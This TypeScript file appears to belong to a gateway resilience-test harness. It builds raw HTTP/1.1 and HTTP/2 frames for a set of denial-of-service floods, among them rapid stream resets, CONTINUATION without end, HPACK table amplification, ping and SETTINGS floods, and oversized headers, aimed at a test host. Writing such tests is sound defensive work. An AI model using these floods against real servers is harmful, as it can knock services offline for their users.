import type { Socket } from 'node:net';
import type { AttackOptions } from './attack.ts';
import { drip } from './attack.ts';
import { h2Preface } from './attacks.ts';

const everyMs = 20;
const head = 'Host: gw.test\r\n';

function frame(type: number, flags: number, stream: number, payload: string): string {
  const bytes = Buffer.alloc(9);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes.writeUInt8(type, 3);
  bytes.writeUInt8(flags, 4);
  bytes.writeUInt32BE(stream, 5);
  return bytes.toString('latin1') + payload;
}

/** Over HTTP/2 the same frames again and again. */
function frames(piece: string, first = ''): Pick<AttackOptions, 'behave' | 'isTls' | 'alpn'> {
  return {
    isTls: true,
    alpn: 'h2',
    behave(socket) {
      socket.write(h2Preface('') + first, 'latin1');
      return drip(socket, piece, everyMs);
    },
  };
}

const request = '\x82\x87\x84\x01\x07gw.test';
/** An entry of 4,000 bytes for the dynamic table, which one byte names from then on. */
const entry = `\x40\x01a\x7f\xa1\x1e${'x'.repeat(4_000)}`;

/** Opens streams with what `of` says, a hundred at a time, each with a number of its own. */
function streams(of: (stream: number) => string): Pick<AttackOptions, 'behave' | 'isTls' | 'alpn'> {
  return {
    isTls: true,
    alpn: 'h2',
    behave(socket) {
      socket.write(h2Preface(''), 'latin1');
      let next = 1;
      const timer = setInterval(() => {
        let text = '';
        for (let i = 0; i < 100; i++, next += 2) text += of(next);
        socket.write(text, 'latin1');
      }, everyMs);
      return () => clearInterval(timer);
    },
  };
}

const leave = (socket: Socket): undefined => void socket.destroy();

/** Ways to make work: connections that come again and again (`perSecond` of an attack), or frames without end. */
export const floods: Record<string, Pick<AttackOptions, 'behave' | 'isTls' | 'alpn'>> = {
  'connections that end at once': { behave: leave },
  'handshakes that are of no use': { isTls: true, behave: leave },
  'requests, each on a connection of its own': {
    behave: (socket) => void socket.write(`GET / HTTP/1.1\r\n${head}Connection: close\r\n\r\n`),
  },
  'heads of 30 KB': {
    behave(socket) {
      return drip(socket, `GET / HTTP/1.1\r\n${head}${`X-Field: ${'a'.repeat(300)}\r\n`.repeat(95)}\r\n`, everyMs);
    },
  },
  'heads that are no HTTP': { behave: (socket) => void socket.write('\0\x01\x02garbage\r\n\r\n', 'latin1') },
  'streams that are reset at once': streams(
    (stream) => frame(1, 5, stream, request) + frame(3, 0, stream, '\0\0\0\x08'),
  ),
  'streams that are reset by a window of nothing': streams(
    (stream) => frame(1, 4, stream, request) + frame(8, 0, stream, '\0\0\0\0'),
  ),
  'pings over HTTP/2': frames(frame(6, 0, 0, 'xxxxxxxx').repeat(100)),
  'SETTINGS over HTTP/2': frames(frame(4, 0, 0, '\0\x03\0\0\0\x64').repeat(100)),
  'empty DATA over HTTP/2': frames(frame(0, 0, 1, '').repeat(100), frame(1, 4, 1, request)),
  'priorities over HTTP/2': frames(frame(2, 0, 1, '\0\0\0\x03\x10').repeat(100)),
  'CONTINUATION without end': frames(frame(9, 0, 1, '\x82'.repeat(1_000)).repeat(10), frame(1, 1, 1, request)),
  'fields that grow when they are read (HPACK)': streams((stream) =>
    frame(1, 5, stream, request + (stream === 1 ? entry : '') + '\xbe'.repeat(1_000)),
  ),
};
